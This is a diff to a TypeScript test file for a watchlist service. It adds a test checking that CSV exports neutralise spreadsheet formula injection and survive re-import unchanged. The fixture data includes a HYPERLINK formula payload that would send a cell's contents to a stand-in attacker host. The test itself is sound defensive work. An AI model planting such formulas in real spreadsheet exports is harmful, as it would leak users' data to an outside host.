@@ -89,10 +89,11 @@ describe("watchlists over RPC", () => {
   beforeAll(async () => {
     server = await startServer()
     rpcUrl = rpcUrlOf(server)
-    // The alert engine takes work items as soon as they commit; this log keeps what was queued.
+    // The alert engine takes work items as soon as they commit; this log keeps what was queued. The
+    // trigger runs as its owner (this superuser): the server's serving role may not write the log.
     await server.db.query(`
       CREATE TABLE test_retro_log (work_id bigint NOT NULL, entry_ids bigint[] NOT NULL);
-      CREATE FUNCTION test_retro_log() RETURNS trigger LANGUAGE plpgsql AS $$
+      CREATE FUNCTION test_retro_log() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$
       BEGIN
         INSERT INTO test_retro_log VALUES (NEW.id, NEW.entry_ids);
         RETURN NULL;
@@ -559,5 +560,63 @@ describe("watchlists over RPC", () => {
       [`watchlist:${result.id}`, 3],
       [`watchlist:${result.copy.watchlist_id}`, 3]
     ])
+  })
+
+  it("writes cells a spreadsheet would run as formulas as text, and imports them back exactly", async () => {
+    const operator = await server.signIn("operator")
+    // Regular expressions keep what was typed, so plates can start with these characters too.
+    const entries = [
+      { value: "=HYPERLINK\\(\"HTTP://EVIL\"\\)", note: "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", reason: "=1+1" },
+      { value: "-2", note: "+1", reason: "plain" },
+      { value: "@SUM\\d", note: "-2", reason: "-" },
+      { value: "\tX", note: "@SUM(A1:A9)", reason: "@" },
+      { value: "\rX", note: "\tx", reason: "r" },
+      { value: "'=A\\d", note: "\rx", reason: "r" },
+      { value: "''@\\d", note: "'=already", reason: "''+twice" },
+      { value: "'Q\\d", note: "'just quoted", reason: "r" },
+      { value: "PLAIN\\d", note: "plain", reason: "r" }
+    ]
+    const { copyId, exported, id, imported } = await as(operator, (client) =>
+      Effect.gen(function*() {
+        const list = yield* client.watchlists.create({ name: "Formulas", category: "bolo" })
+        for (const e of entries) yield* client.watchlists.addEntry({ watchlist_id: list.watchlist_id, kind: "regex", ...e })
+        // The API trims notes; a stored one may still start with a tab or CR (from an older version, or SQL).
+        for (const e of entries.filter((e) => /^[\t\r]/.test(e.note))) {
+          yield* Effect.promise(() =>
+            server.db.query("UPDATE watchlist_entries SET note = $1 WHERE watchlist_id = $2 AND value = $3", [e.note, list.watchlist_id, e.value])
+          )
+        }
+        const exported = yield* exportText(client, list.watchlist_id)
+        const copy = yield* client.watchlists.create({ name: "Formulas copy", category: "bolo" })
+        const imported = yield* importFile(client, copy.watchlist_id, exported)
+        return { id: list.watchlist_id, copyId: copy.watchlist_id, exported, imported }
+      }))
+    expect(imported).toMatchObject({ imported: entries.length, rejected: 0 })
+
+    const records = parse(exported, { columns: true }) as Array<Record<string, string>>
+    expect(records).toHaveLength(entries.length)
+    for (const record of records) {
+      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+    }
+    const written = new Map(records.map((r) => [r["plate"], [r["note"], r["reason"]]]))
+    expect(written.get("'=HYPERLINK\\(\"HTTP://EVIL\"\\)")).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'=1+1"])
+    expect(written.get("'-2")).toEqual(["'+1", "plain"])
+    expect(written.get("'@SUM\\d")).toEqual(["'-2", "'-"])
+    expect(written.get("'\tX")).toEqual(["'@SUM(A1:A9)", "'@"])
+    expect(written.get("'\rX")).toEqual(["'\tx", "r"])
+    expect(written.get("''=A\\d")).toEqual(["'\rx", "r"])
+    expect(written.get("'''@\\d")).toEqual(["''=already", "'''+twice"])
+    expect(written.get("'Q\\d")).toEqual(["'just quoted", "r"])
+    expect(written.get("PLAIN\\d")).toEqual(["plain", "r"])
+
+    const stored = async (watchlistId: string) =>
+      (await query<{ kind: string; value: string; note: string; reason: string }>(
+        "SELECT kind, value, note, reason FROM watchlist_entries WHERE watchlist_id = $1 AND removed_at IS NULL",
+        [watchlistId]
+      )).sort((a, b) => (a.value < b.value ? -1 : 1))
+    expect(await stored(id)).toEqual(
+      entries.map((e) => ({ kind: "regex", ...e })).sort((a, b) => (a.value < b.value ? -1 : 1))
+    )
+    expect(await stored(copyId)).toEqual(await stored(id))
   })
 })
